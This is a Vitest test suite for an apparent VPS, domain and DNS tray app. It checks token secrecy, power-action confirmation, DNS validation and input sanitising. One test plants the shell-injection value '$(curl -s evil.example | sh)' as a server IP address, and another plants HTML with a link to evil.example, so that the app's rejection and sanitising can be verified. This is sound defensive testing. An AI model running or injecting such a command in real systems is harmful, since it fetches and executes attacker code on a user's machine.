import { readFileSync, readdirSync, writeFileSync, mkdtempSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { AppState } from '@shared/app-state';
import { detailOf } from '@shared/details';
import { DEFAULT_SETTINGS } from '@shared/settings';
import type { CommandHandlers } from '@shared/ipc-contract';
import { missingKeychain } from '../core/vault/testing/fake-keychains';
import { createHarness, signIn, type Harness } from './testing/app-harness';
import { buildTrayMenu } from './tray/menu-model';
import { NOTICE_IDS } from '../core/services/notices';
import { EMIT_COALESCE_MS } from '../core/services/state-holder';

let h: Harness;
afterEach(async () => {
  await h.close();
});

/** The handlers, with every output kept for the token scan. */
function recorded(handlers: CommandHandlers, outputs: unknown[]): CommandHandlers {
  return new Proxy(handlers, {
    get(target, name) {
      const handler = Reflect.get(target, name) as (input: unknown) => Promise<unknown>;
      return async (input: unknown) => {
        try {
          const value = await handler(input);
          outputs.push(value);
          return value;
        } catch (error) {
          outputs.push(error, JSON.stringify(error), String(error));
          throw error;
        }
      };
    },
  });
}

const requestsSince = (h: Harness, from: number) => h.sim.requests.slice(from).map((r) => `${r.method} ${r.path}`);

describe('the app core', () => {
  it('starts without a token: nothing to sync and no request sent', async () => {
    h = await createHarness();
    await h.app.start();
    const state = h.app.state();
    expect(state.session).toMatchObject({ hasToken: false, status: 'none' });
    expect(state.sync.state).toBe('paused');
    expect(state.settings).toEqual(DEFAULT_SETTINGS);
    await expect(h.app.handlers.refresh(undefined)).rejects.toMatchObject({ kind: 'unauthorized' });
    await expect(h.app.handlers.getServer({ serverId: 1 })).rejects.toMatchObject({ kind: 'unauthorized' });
    await h.timers.advance(3_600_000);
    expect(h.sim.requests).toEqual([]);
  });

  it('runs every command against the simulator, and the token shows up nowhere', async () => {
    h = await createHarness();
    const outputs: unknown[] = [];
    const states: AppState[] = [];
    h.app.onState((s) => states.push(s));
    const api = recorded(h.app.handlers, outputs);
    await h.app.start();

    // Tokens and the account
    await expect(api.addToken({ token: 'not-a-token', apiUrl: h.sim.url })).rejects.toMatchObject({ kind: 'invalid_input' });
    const view = await api.addToken({ token: `  ${h.sim.tokens.full}\n`, apiUrl: h.sim.url, profileName: 'Work' });
    expect(view).toMatchObject({ hasToken: true, status: 'valid', persisted: true, tokenName: 'Demo full access', permissions: ['*:*'] });
    expect((await api.getState(undefined)).servers.map((s) => s.name)).toContain('web-01');
    await api.watchDetails({ targets: [{ kind: 'account' }] });
    expect(detailOf(h.app.state().details, { kind: 'account' })?.value?.account.email).toBe('demo@vps.example');

    // Hidden, the first refresh fetched the list pages only.
    expect(h.app.state().zones).toEqual([]);
    await h.app.setWindowVisible(true);
    expect(h.app.state().zones.map((z) => z.domain)).toEqual(expect.arrayContaining(['acme-shop.com', 'acme-api.io']));

    // Servers
    const servers = h.app.state().servers;
    const web01 = servers.find((s) => s.name === 'web-01')!;
    const staging = servers.find((s) => s.name === 'staging')!;
    await api.watchServers({ serverIds: [web01.id] });
    expect(h.app.state().watched[web01.id]?.samples).toHaveLength(1);
    expect(h.app.state().watched[web01.id]?.detail.resource_usage).toBeDefined();
    expect((await api.getServer({ serverId: staging.id })).status).toBe('stopped');

    const created = await api.createServer({ name: 'api-01', plan_id: 1, os_id: 3, location: 'eu-central' });
    expect(created.status).toBe('provisioning');
    expect(h.app.state().pending).toMatchObject([{ serverId: created.id, action: 'create', target: 'active' }]);
    await expect(api.copyIp({ serverId: created.id })).rejects.toMatchObject({ kind: 'not_found', message: expect.stringContaining('no IP address yet') });
    await h.timers.advance(4 * 60_000);
    expect(h.app.state().pending).toEqual([]);
    expect(h.desktop.notifications.at(-1)).toMatchObject({ title: expect.stringMatching(/^api-01 is ready after \d+ min/), target: { view: 'servers', id: created.id } });
    expect(await api.copyIp({ serverId: created.id })).toMatch(/^\d+\.\d+\.\d+\.\d+$/);

    expect((await api.replaceServer({ serverId: created.id, server: { name: 'api-02', hostname: 'api.acme-shop.com', backups_enabled: true } })).name).toBe('api-02');
    expect((await api.updateServer({ serverId: created.id, patch: { hostname: 'api2.acme-shop.com' } })).hostname).toBe('api2.acme-shop.com');
    expect(h.app.state().servers.find((s) => s.id === created.id)?.name).toBe('api-02');

    expect(await api.copyIp({ serverId: web01.id })).toBe(web01.ip_address);
    expect(h.desktop.clipboard.at(-1)).toBe(web01.ip_address);

    const started = await api.powerServer({ serverId: staging.id, action: 'start' });
    expect(started).toMatchObject({ status: 'success', server: { id: staging.id, status: 'starting' } });
    await h.timers.advance(60_000);
    expect(h.desktop.notifications.at(-1)?.title).toMatch(/^staging is running after \d+ s$/);
    expect(h.app.state().servers.find((s) => s.id === staging.id)?.status).toBe('active');

    await api.deleteServer({ serverId: created.id });
    expect(h.app.state().servers.some((s) => s.id === created.id)).toBe(false);

    // Domains
    const domains = h.app.state().domains;
    const shop = domains.find((d) => d.domain_name === 'acme-shop.com')!;
    const corp = domains.find((d) => d.domain_name === 'acme-corp.net')!;
    await api.watchDetails({ targets: [{ kind: 'domain', domainId: shop.id }] });
    expect(detailOf(h.app.state().details, { kind: 'domain', domainId: shop.id })?.value?.registrar).toBeDefined();
    const registered = await api.registerDomain({ domain_name: 'acme-new.com', years: 2 });
    expect(registered.total_cost).toBeCloseTo(25.98);
    expect(h.app.state().domains.some((d) => d.domain_name === 'acme-new.com')).toBe(true);
    expect((await api.updateDomain({ domainId: shop.id, settings: { auto_renew: true } })).auto_renew).toBe(true);
    expect(h.app.state().domains.find((d) => d.id === shop.id)?.auto_renew).toBe(true);
    expect((await api.transferDomain({ domainId: corp.id, transfer: { auth_code: 'EPP-1234' } })).transfer_status).toBe('pending');
    await api.removeDomain({ domainId: registered.id });
    expect(h.app.state().domains.some((d) => d.id === registered.id)).toBe(false);

    const labs = h.app.state().reminders.find((r) => r.domainName === 'acme-labs.dev')!;
    expect(labs.state).toBe('due');
    await api.snoozeReminder({ domainId: labs.domainId, days: 7 });
    expect(h.app.state().reminders.find((r) => r.domainId === labs.domainId)?.state).toBe('snoozed');
    await api.markReminderHandled({ domainId: labs.domainId });
    expect(h.app.state().reminders.find((r) => r.domainId === labs.domainId)?.state).toBe('handled');

    expect(await api.exportCalendar(undefined)).toEqual({ saved: true, path: '/tmp/vps-domain-expiry.ics' });
    const ics = h.desktop.saved.at(-1)!;
    expect(ics.defaultName).toBe('vps-domain-expiry.ics');
    expect(ics.content).toContain('BEGIN:VCALENDAR');
    expect(ics.content).toContain('SUMMARY:acme-shop.com expires');
    expect(ics.content).toContain('TRIGGER:-P30D');

    // DNS
    expect((await api.listZones(undefined)).length).toBeGreaterThanOrEqual(3);
    const [shopZone] = await api.listZones({ domain: 'acme-shop.com' });
    expect(shopZone?.domain).toBe('acme-shop.com');
    await api.watchDetails({ targets: [{ kind: 'zone', zoneId: shopZone!.uuid }] });
    expect(detailOf(h.app.state().details, { kind: 'zone', zoneId: shopZone!.uuid })?.value?.records.length).toBeGreaterThan(0);
    const newZone = await api.createZone({ domain: 'acme.co' });
    expect(h.app.state().zones.some((z) => z.uuid === newZone.uuid)).toBe(true);
    const before = h.sim.requests.length;
    await expect(api.createZoneRecord({ zoneId: newZone.uuid, record: { record_type: 'MX', name: '@', value: 'mail.acme.co' } })).rejects.toMatchObject({
      kind: 'validation',
      field: 'priority',
    });
    await expect(api.createZoneRecord({ zoneId: newZone.uuid, record: { record_type: 'A', name: 'www', value: '300.1.1.1' } })).rejects.toMatchObject({
      kind: 'validation',
      field: 'value',
    });
    expect(h.sim.requests.length).toBe(before);
    const record = await api.createZoneRecord({ zoneId: newZone.uuid, record: { record_type: 'A', name: 'www', value: '192.0.2.10', ttl: 300 } });
    expect(h.app.state().zones.find((z) => z.uuid === newZone.uuid)?.record_count).toBe(1);
    const newZoneTarget = { kind: 'zone', zoneId: newZone.uuid } as const;
    const recordTarget = { kind: 'record', recordId: record.uuid } as const;
    await api.watchDetails({ targets: [newZoneTarget, recordTarget, { kind: 'records', recordType: 'A' }] });
    expect(detailOf(h.app.state().details, newZoneTarget)?.value?.records.map((r) => r.uuid)).toEqual([record.uuid]);
    expect(detailOf(h.app.state().details, { kind: 'records', recordType: 'A' })?.value?.map((r) => r.uuid)).toContain(record.uuid);
    expect(detailOf(h.app.state().details, recordTarget)?.value?.value).toBe('192.0.2.10');
    expect((await api.replaceRecord({ recordId: record.uuid, record: { record_type: 'A', name: 'www', value: '192.0.2.11', ttl: 600 } })).value).toBe('192.0.2.11');
    await expect(api.updateRecord({ recordId: record.uuid, patch: { record_type: 'MX' } })).rejects.toMatchObject({ kind: 'validation' });
    expect((await api.updateRecord({ recordId: record.uuid, patch: { ttl: 120 } })).ttl).toBe(120);
    await api.deleteRecord({ recordId: record.uuid });
    expect(detailOf(h.app.state().details, recordTarget)).toMatchObject({ status: 'not_found', value: null, error: { kind: 'not_found' } });
    await api.watchDetails({ targets: [] });
    expect(h.app.state().details).toEqual({});
    await api.deleteZone({ zoneId: newZone.uuid });
    expect(h.app.state().zones.some((z) => z.uuid === newZone.uuid)).toBe(false);

    // App
    expect(await api.updateSettings({ startAtLogin: true, confirm: { stop: false } })).toMatchObject({ startAtLogin: true, confirm: { stop: false, reboot: true } });
    expect(h.desktop.startAtLogin).toEqual([true]);
    await expect(api.updateSettings({ refresh: { hiddenSeconds: 10 } })).rejects.toMatchObject({ kind: 'invalid_input', field: 'refresh.hiddenSeconds' });
    await api.refresh(undefined);
    await api.openView({ view: 'domains', id: shop.id });
    expect(h.desktop.shown.at(-1)).toEqual({ view: 'domains', id: shop.id });
    expect(h.desktop.shown.at(-1)).toEqual({ view: 'domains', id: shop.id });

    // Profiles
    const workId = h.app.state().session.profileId!;
    const other = await api.addToken({ token: h.sim.tokens.readOnly, apiUrl: h.sim.url, profileName: 'Read only' });
    expect(other.profileId).not.toBe(workId);
    expect(h.app.state().activity).toEqual([]);
    await api.renameProfile({ profileId: other.profileId!, name: 'Auditor' });
    expect(h.app.state().profiles.find((p) => p.id === other.profileId)?.name).toBe('Auditor');
    const back = await api.switchProfile({ profileId: workId });
    expect(back).toMatchObject({ profileId: workId, status: 'valid' });
    expect(h.app.state().activity.length).toBeGreaterThan(10);
    await api.removeProfile({ profileId: other.profileId! });
    expect(h.app.state().profiles.map((p) => p.id)).toEqual([workId]);
    const removed = await api.removeToken({ profileId: workId });
    expect(removed).toMatchObject({ hasToken: false, status: 'none' });
    expect(h.app.state().sync.state).toBe('paused');

    await api.dismissNotice({ id: 'nothing-to-dismiss' });
    await api.quit(undefined);
    expect(h.desktop.quits).toBe(1);

    // Every write left an entry; the token appears in no output, state, event, notification,
    // activity entry or file.
    await api.switchProfile({ profileId: workId });
    const actions = h.app.state().activity.map((e) => `${e.action}:${e.result}`);
    for (const action of ['Create server:ok', 'Edit server:ok', 'Start:ok', 'Delete server:ok', 'Register domain:ok', 'Update domain:ok', 'Transfer domain:ok', 'Remove domain:ok', 'Create DNS zone:ok', 'Add DNS record:ok', 'Edit DNS record:ok', 'Delete DNS record:ok', 'Delete DNS zone:ok']) {
      expect(actions).toContain(action);
    }
    await h.timers.advance(EMIT_COALESCE_MS);
    expect(states.length).toBeGreaterThan(0);
    const files = readdirSync(h.dataDir).map((f) => readFileSync(path.join(h.dataDir, f), 'utf8'));
    const everything = JSON.stringify({ outputs: outputs.map((o) => (o instanceof Error ? { ...o, message: o.message } : o)), states, shown: h.desktop.shown, notifications: h.desktop.notifications, state: h.app.state(), files });
    for (const token of Object.values(h.sim.tokens)) expect(everything).not.toContain(token);
    expect(everything).not.toContain('vps_demo');
  });

  it('refuses power actions a read-only token cannot do, naming the permission, without a request', async () => {
    h = await createHarness();
    await h.app.start();
    await signIn(h, 'readOnly');
    const before = h.sim.requests.length;
    await expect(h.app.handlers.powerServer({ serverId: h.app.state().servers[0]!.id, action: 'reboot' })).rejects.toMatchObject({
      kind: 'forbidden',
      permission: 'servers:power',
      message: expect.stringContaining('servers:power'),
    });
    expect(h.sim.requests.length).toBe(before);
    expect(h.app.state().activity[0]).toMatchObject({ action: 'Reboot', result: 'error' });
  });

  it('says when the keychain is missing and keeps the token in memory only', async () => {
    h = await createHarness({ keychain: missingKeychain() });
    await h.app.start();
    const view = await h.app.handlers.addToken({ token: h.sim.tokens.full, apiUrl: h.sim.url });
    expect(view).toMatchObject({ hasToken: true, persisted: false });
    expect(h.app.state().keychainAvailable).toBe(false);
    expect(h.app.state().notices.map((n) => n.id)).toContain(NOTICE_IDS.keychainUnavailable);
    expect(h.app.state().servers.length).toBeGreaterThan(0);
    const files = readdirSync(h.dataDir).map((f) => readFileSync(path.join(h.dataDir, f), 'utf8'));
    expect(files.join('\n')).not.toContain(h.sim.tokens.full);
    await h.app.handlers.dismissNotice({ id: NOTICE_IDS.keychainUnavailable });
    expect(h.app.state().notices).toEqual([]);
  });

  it('shows a notice when the data file was corrupt and set aside', async () => {
    const dataDir = mkdtempSync(path.join(os.tmpdir(), 'vps-tray-app-'));
    writeFileSync(path.join(dataDir, 'config.json'), '{"settings": {"theme": "da');
    h = await createHarness({ dataDir });
    await h.app.start();
    const notice = h.app.state().notices.find((n) => n.id === NOTICE_IDS.storeRecovered);
    expect(notice?.message).toContain('config.json.corrupt-');
    expect(notice?.level).toBe('warning');
    expect(h.app.state().settings).toEqual(DEFAULT_SETTINGS);
  });

  it('resets settings that no longer fit the schema, with a notice', async () => {
    const dataDir = mkdtempSync(path.join(os.tmpdir(), 'vps-tray-app-'));
    writeFileSync(path.join(dataDir, 'config.json'), JSON.stringify({ settings: { ...DEFAULT_SETTINGS, theme: 'neon' } }));
    h = await createHarness({ dataDir });
    expect(h.app.state().settings).toEqual(DEFAULT_SETTINGS);
    expect(h.app.state().notices.map((n) => n.id)).toEqual([NOTICE_IDS.settingsReset]);
  });

  it('asks before a reboot from the tray, and sends nothing when declined', async () => {
    h = await createHarness();
    await h.app.start();
    await signIn(h);
    const web01 = h.app.state().servers.find((s) => s.name === 'web-01')!;
    const before = h.sim.requests.length;
    h.desktop.answer = false;
    await h.app.runTrayCommand({ kind: 'power', serverId: web01.id, action: 'reboot' });
    expect(h.desktop.confirms).toEqual([{ message: 'Reboot web-01?', detail: expect.stringContaining('web-01'), confirmLabel: 'Reboot' }]);
    expect(h.sim.requests.length).toBe(before);

    h.desktop.answer = true;
    await h.app.runTrayCommand({ kind: 'power', serverId: web01.id, action: 'reboot' });
    expect(requestsSince(h, before)).toEqual([`POST /api/v1/servers/${web01.id}/reboot/`]);

    // Start never asks; with confirmation off, stop does not either.
    const staging = h.app.state().servers.find((s) => s.name === 'staging')!;
    await h.app.handlers.updateSettings({ confirm: { stop: false } });
    await h.app.runTrayCommand({ kind: 'power', serverId: staging.id, action: 'start' });
    expect(h.desktop.confirms).toHaveLength(2);
  });

  it('turns a failed tray command into a notification', async () => {
    h = await createHarness();
    await h.app.start();
    await signIn(h);
    const staging = h.app.state().servers.find((s) => s.name === 'staging')!;
    await h.app.runTrayCommand({ kind: 'power', serverId: staging.id, action: 'reboot' });
    expect(h.desktop.notifications.at(-1)).toMatchObject({ title: 'Could not reboot staging', target: { view: 'servers', id: staging.id } });
    await h.app.runTrayCommand({ kind: 'copyIp', serverId: 99_999 });
    expect(h.desktop.notifications.at(-1)).toMatchObject({ title: 'Could not copy the IP address' });
    await h.app.runTrayCommand({ kind: 'open', view: 'dns' });
    await h.app.runTrayCommand({ kind: 'settings' });
    expect(h.desktop.shown.slice(-2)).toEqual([{ view: 'dns' }, { view: 'settings' }]);
  });

  it('never copies an ip_address that is not an IPv4 or IPv6 literal, and the tray does not offer it', async () => {
    h = await createHarness();
    await h.app.start();
    await signIn(h);
    const web01 = h.app.state().servers.find((s) => s.name === 'web-01')!;
    const simServer = h.sim.state.servers.get(web01.id)!;
    simServer.ip_address = '$(curl -s evil.example | sh)';
    await h.app.handlers.refresh(undefined);
    const before = h.desktop.clipboard.length;
    await expect(h.app.handlers.copyIp({ serverId: web01.id })).rejects.toMatchObject({ kind: 'bad_response', message: expect.stringContaining('not an IPv4 or IPv6 address') });
    await h.app.runTrayCommand({ kind: 'copyIp', serverId: web01.id });
    expect(h.desktop.clipboard.length).toBe(before);
    const submenu = buildTrayMenu(h.app.state(), new Date()).find((item) => item.label.includes('web-01'))?.submenu ?? [];
    expect(submenu.find((item) => item.label.startsWith('Copy IP'))).toEqual({ label: 'Copy IP (not an IP address)', enabled: false });

    simServer.ip_address = '2001:db8::10';
    await h.app.handlers.refresh(undefined);
    expect(await h.app.handlers.copyIp({ serverId: web01.id })).toBe('2001:db8::10');
  });

  it('shows the server’s words in a notification as plain, short text', async () => {
    h = await createHarness();
    await h.app.start();
    await signIn(h);
    const staging = h.app.state().servers.find((s) => s.name === 'staging')!;
    h.sim.state.servers.get(staging.id)!.name = `<b>staging</b>&nbsp;<a href="https://evil.example">${'x'.repeat(300)}</a>`;
    await h.app.handlers.refresh(undefined);
    await h.app.runTrayCommand({ kind: 'power', serverId: staging.id, action: 'reboot' });
    const shown = h.desktop.notifications.at(-1)!;
    expect(shown.title).toMatch(/^Could not reboot staging ＆nbsp; x+…$/);
    for (const text of [shown.title, shown.body]) {
      expect(text).not.toMatch(/[<>&\n]/);
      expect(text.length).toBeLessThanOrEqual(240);
    }
  });

  it('checks a record change whether or not the token may read records, and a TTL change never fails on the value the record has', async () => {
    h = await createHarness();
    await h.app.start();
    await signIn(h);
    // A record the provider holds with a value the app's own rules would refuse.
    const odd = [...h.sim.state.records.values()].find((r) => r.record_type === 'CNAME')!;
    odd.value = 'legacy target with spaces';
    const ttl = await h.app.handlers.updateRecord({ recordId: odd.uuid, patch: { ttl: 900 } });
    expect(ttl.ttl).toBe(900);

    // A token that may change records but not read them: the patch's own fields are checked.
    const writeOnly = 'vps_write_only_dns_1';
    h.sim.addToken(writeOnly, { permissions: ['dns:update'] });
    await h.app.handlers.addToken({ token: writeOnly, apiUrl: h.sim.url, profileName: 'DNS writer' });
    const before = h.sim.requests.length;
    await expect(h.app.handlers.updateRecord({ recordId: odd.uuid, patch: { record_type: 'A', value: '300.1.1.1' } })).rejects.toMatchObject({
      kind: 'validation',
      field: 'value',
    });
    await expect(h.app.handlers.updateRecord({ recordId: odd.uuid, patch: { priority: 70_000 } })).rejects.toMatchObject({ kind: 'validation', field: 'priority' });
    expect(h.sim.requests.slice(before).filter((r) => r.method === 'PATCH')).toEqual([]);
    expect((await h.app.handlers.updateRecord({ recordId: odd.uuid, patch: { ttl: 1200 } })).ttl).toBe(1200);
  });
});

